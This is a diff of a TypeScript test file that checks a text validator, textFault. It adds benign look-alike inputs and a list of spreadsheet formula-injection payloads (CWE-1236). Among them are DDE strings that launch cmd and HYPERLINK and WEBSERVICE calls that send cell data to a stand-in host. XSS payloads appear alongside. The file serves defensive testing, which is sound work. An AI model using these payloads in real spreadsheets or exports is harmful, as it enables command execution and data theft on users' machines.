@@ -21,6 +21,13 @@ const HONEST = [
   '《data: 数据治理》',
   'on=开',
   '＜未填＞',
+  '=5',
+  '-3.5',
+  '+86 851',
+  '@省大数据局',
+  '- Excel(xlsx) 或 CSV(UTF-8)',
+  '= A1 | B1',
+  '比例=SUM(甲)/SUM(乙)',
 ];
 const PROGRAMS = [
   '<script>alert(1)</script>',
@@ -39,6 +46,16 @@ const PROGRAMS = [
   '<math><mi xlink:href="x">',
   '<base href=//x>',
   '<style>@import url(//x)</style>',
+];
+const FORMULAS = [
+  "=cmd|' /C calc'!A0",
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '  =HYPERLINK("https://x.example/?"&A1)',
+  '=+WEBSERVICE("https://x.example")',
+  '＝IMPORTXML(A1)',
+  '=(SUM(A1:A9))',
 ];
 const UNSEEN = [
   'a\u0000b',
@@ -61,6 +78,12 @@ describe('text that people write', () => {
     for (const text of PROGRAMS)
       for (const kind of ['line', 'label', 'prose'] as const)
         expect(textFault(text, kind), `${kind}: ${text}`).not.toBeNull();
+  });
+
+  it('that a spreadsheet would run is refused in every kind of field but secrets (CWE-1236)', () => {
+    for (const text of FORMULAS)
+      for (const kind of ['line', 'label', 'prose'] as const) expect(textFault(text, kind), text).toBe('formula');
+    for (const text of FORMULAS) expect(textFault(text, 'secret')).toBeNull();
   });
 
   it('with unseen characters is refused in every kind of field but secrets', () => {
@@ -106,7 +129,7 @@ describe('text that people write', () => {
 
   it('takes time in proportion to its length', () => {
     // patterns with nested choices would not come back from these
-    for (const piece of ['<a ', '<', '<a onx', 'j a v a ', '<a x="', 'data: ', '< / ', ' on'])
+    for (const piece of ['<a ', '<', '<a onx', 'j a v a ', '<a x="', 'data: ', '< / ', ' on', '= ', '=|', '=+', '=a'])
       expect(() => textFault(piece.repeat(200_000), 'prose')).not.toThrow();
   });
 
